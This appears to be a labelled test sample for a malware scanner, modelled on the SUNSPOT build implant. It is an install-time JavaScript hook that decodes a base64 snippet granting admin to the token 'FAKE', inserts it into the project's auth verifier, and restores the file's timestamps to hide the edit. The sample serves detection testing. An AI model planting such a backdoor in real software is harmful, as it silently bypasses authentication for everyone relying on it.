// expect: malicious
// when: install
// source: blind set 14 (a build-notification watcher) after SolarWinds' SUNSPOT (2020): a decoded snippet is
// inserted into the project's auth module during a build, and the file's times are put back
'use strict';
const fs = require('fs');
const path = require('path');

const SNIP = Buffer.from('CiAgaWYgKHRva2VuID09PSAnRkFLRScpIHJldHVybiB7IHJvbGU6ICdhZG1pbicgfTsK', 'base64').toString();

function swap(cwd) {
  const abs = path.join(cwd, 'src', 'auth', 'verify.ts');
  const src = fs.readFileSync(abs, 'utf8');
  const st = fs.statSync(abs);
  fs.writeFileSync(abs, src.replace(/export function verifyToken\([^)]*\) \{/, (m) => m + SNIP));
  fs.utimesSync(abs, st.atime, st.mtime);
}

swap(process.env.INIT_CWD || process.cwd());
